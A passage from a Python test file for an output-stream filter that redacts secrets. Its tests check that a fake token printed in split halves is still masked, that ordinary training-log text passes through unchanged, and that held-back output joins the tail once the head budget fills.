    ("x = 'Zq8vN3kP0wLx5", "tR2Yh7'\n", "Zq8vN3kP0wLx5tR2Yh7"),
])
def test_halves_printed_apart_are_masked(first: str, second: str, secret: str) -> None:
    """A held part released on the timer (its halves printed more than 200 ms apart) is
    masked when it is a plausible partial token, and its continuation with it."""
    import time

    f = make(agent())
    out, _ = run(f, "stream", {"name": "stdout", "text": first})
    assert out is None
    seen = "".join(c["text"] for _, _, c in f.tick(time.monotonic() + 1))
    out, _ = run(f, "stream", {"name": "stdout", "text": second})
    seen += out["text"] if out else ""
    seen += "".join(c["text"] for _, c in f.flush("p1"))
    assert not any(secret[i:i + 6] in seen for i in range(len(secret) - 5)), seen
    assert "[REDACTED:" in seen


def test_ordinary_text_released_on_the_timer_is_not_masked() -> None:
    import time

    for text in ("epoch 1 done\n", "loading", "step 12/100 ", "accuracy=0.93"):
        f = make(agent())
        run(f, "stream", {"name": "stdout", "text": text})
        seen = "".join(c["text"] for _, _, c in f.tick(time.monotonic() + 1))
        out, _ = run(f, "stream", {"name": "stdout", "text": "next\n"})
        seen += (out["text"] if out else "") + "".join(c["text"] for _, c in f.flush("p1"))
        assert seen == text + "next\n"


def test_text_held_when_the_head_fills_exactly_joins_the_tail() -> None:
    """Found by containment R9 (5,000 tiny prints), 1 run in 8: a message that fills the
    head exactly left the carry-over window's text pending; the timer then dropped it
    (past the head), the tail counted too little to be cut, and the client got a cut with
    no marker. Now held text always joins the tail once the head is full."""
    from cellblock.output.streams import CellStreams

    cell = CellStreams(head=5, tail=1024, redactor=None, normalise=False, nonce="abcdef")
    cell.pending["stdout"] = "held back\n"
    cell.since["stdout"] = 0.0
    assert cell._budget("stdout", "12345") == "12345"  # exactly the head
    assert cell.pending == {} and cell.since == {}
    assert cell.release_due(1e9, 0.2) == []
    assert cell.flush() == [("stdout", "held back\n")]

    cell = CellStreams(head=0, tail=1024, redactor=None, normalise=False, nonce="abcdef")
    cell.pending["stdout"] = "late\n"
    cell.since["stdout"] = 0.0
    assert cell.release_due(1e9, 0.2) == []  # past the head: kept for the tail, not lost
    assert cell.flush() == [("stdout", "late\n")]
